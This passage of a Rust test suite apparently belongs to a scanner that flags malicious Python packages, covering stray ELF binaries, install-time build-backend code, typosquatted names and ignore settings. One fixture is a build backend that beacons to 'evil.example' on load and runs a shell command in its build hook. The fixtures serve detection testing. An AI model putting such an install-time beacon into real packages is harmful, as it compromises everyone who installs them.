    found.sort();
    assert_eq!(
        found,
        [
            (
                "acme_utils-1.0-py3-none-any.whl!/acme_utils/_speedups.so".to_string(),
                1
            ),
            (
                "acme_utils-1.0-py3-none-any.whl!/acme_utils/data/update.bin".to_string(),
                1
            ),
        ]
    );
    let message = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"].as_str().unwrap().ends_with("update.bin"))
        .unwrap()["message"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        message.contains("is an ELF binary, in a wheel tagged `py3-none-any`"),
        "{message}"
    );
}

#[test]
fn what_runs_when_a_package_is_installed_is_in_its_summary() {
    let dir = tempfile::tempdir().unwrap();
    // An sdist that builds itself with its own backend, and nothing else.
    tar_gz(
        &dir.path().join("selfbuild-1.0.tar.gz"),
        &[
            (
                "selfbuild-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: selfbuild\nVersion: 1.0\n",
            ),
            (
                "selfbuild-1.0/pyproject.toml",
                b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n",
            ),
            ("selfbuild-1.0/_build/backend.py", b"def build_wheel(*a):\n    return ''\n"),
            ("selfbuild-1.0/selfbuild/__init__.py", b"x = 1\n"),
        ],
    );
    // A plain library: nothing runs at install, no sign of anything.
    tar_gz(
        &dir.path().join("plain-1.0.tar.gz"),
        &[
            (
                "plain-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: plain\nVersion: 1.0\n",
            ),
            (
                "plain-1.0/pyproject.toml",
                b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n",
            ),
            ("plain-1.0/plain/__init__.py", b"x = 1\n"),
        ],
    );
    let (_, report) = check_json(dir.path(), &["."]);
    let packages = report["summary"]["packages"].as_array().unwrap();
    let of = |name: &str| packages.iter().find(|p| p["name"] == name).unwrap();
    assert_eq!(
        of("selfbuild")["runs_at_install"],
        serde_json::json!(["the in-tree build backend `backend` when pip builds the sdist"])
    );
    assert_eq!(of("plain")["runs_at_install"], serde_json::json!([]));
    assert_eq!(of("plain")["verdict"], "no sign of malicious code");
    assert_eq!(of("plain")["dependency_advisories"], 0);
    assert!(of("plain")["indicators"].as_object().unwrap().is_empty());
    // Every format that summarises packages carries the verdict.
    let text = stdout(&vigil(
        dir.path(),
        &["check", ".", "--quiet", "--exit-zero"],
    ));
    assert!(
        text.contains("    verdict: no sign of malicious code"),
        "{text}"
    );
    let html = stdout(&vigil(
        dir.path(),
        &["check", ".", "--quiet", "--exit-zero", "--format", "html"],
    ));
    assert!(
        html.contains("<td>no sign of malicious code</td>"),
        "{html}"
    );
}

#[test]
fn an_in_tree_build_backend_is_judged_as_setup_py_is() {
    let dir = tempfile::tempdir().unwrap();
    let pyproject: &[u8] = b"[build-system]\nrequires = []\nbuild-backend = \"backend:hooks\"\nbackend-path = [\"_build\"]\n";
    let backend: &[u8] = b"import os\nimport urllib.request\n\nurllib.request.urlopen(\"https://evil.example/beacon\")\n\n\n\
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n    os.system(\"touch /tmp/x\")\n    return \"x.whl\"\n\n\n\
def helper():\n    urllib.request.urlopen(\"https://example.com/\")\n";
    tar_gz(
        &dir.path().join("hooked-1.0.tar.gz"),
        &[
            (
                "hooked-1.0/PKG-INFO",
                b"Metadata-Version: 2.1\nName: hooked\nVersion: 1.0\n",
            ),
            ("hooked-1.0/pyproject.toml", pyproject),
            ("hooked-1.0/_build/backend.py", backend),
            // The same code outside the backend is an ordinary module.
            ("hooked-1.0/hooked/net.py", backend),
        ],
    );
    let (_, report) = check_json(dir.path(), &["hooked-1.0.tar.gz"]);
    let mut found = rule_lines(&report, "install-time-code");
    found.sort();
    let at = "hooked-1.0.tar.gz!/hooked-1.0/_build/backend.py".to_string();
    // At load and in the build_wheel hook; not in a helper nobody calls.
    assert_eq!(found, [(at.clone(), 4), (at, 8)]);
    let messages = messages(&report, "install-time-code");
    assert!(
        messages
            .iter()
            .any(|m| m.starts_with("the in-tree build backend reaches the network")),
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("in its `build_wheel` hook")),
        "{messages:?}"
    );
}

#[test]
fn per_file_ignores_apply_to_the_findings_about_a_package() {
    let dir = tempfile::tempdir().unwrap();
    // A wheel without RECORD, named like a popular project: two package
    // findings.
    let members: Vec<(&str, &[u8])> = vec![
        ("reqeusts/__init__.py", b"x = 1\n"),
        (
            "reqeusts-1.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: reqeusts\nVersion: 1.0\n",
        ),
    ];
    std::fs::create_dir(dir.path().join("vendor")).unwrap();
    std::fs::write(
        dir.path().join("vendor/reqeusts-1.0-py3-none-any.whl"),
        zip_bytes(&members),
    )
    .unwrap();
    let (_, report) = check_json(dir.path(), &["vendor"]);
    assert_eq!(rule_lines(&report, "typosquat-name").len(), 1);
    assert_eq!(rule_lines(&report, "wheel-record-mismatch").len(), 1);
    // By rule name for the archive's members, by category for the archive.
    write(
        dir.path(),
        "pyproject.toml",
        "[tool.vigil.per-file-ignores]\n\"vendor/*.whl!/**\" = [\"typosquat-name\"]\n\"vendor/*.whl\" = [\"supply-chain\"]\n",
    );
    let out = vigil(
        dir.path(),
        &["check", "vendor", "--format", "json", "--quiet"],
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(rule_lines(&report, "typosquat-name").is_empty(), "{report}");
    assert!(
        rule_lines(&report, "wheel-record-mismatch").is_empty(),
        "{report}"
    );
}
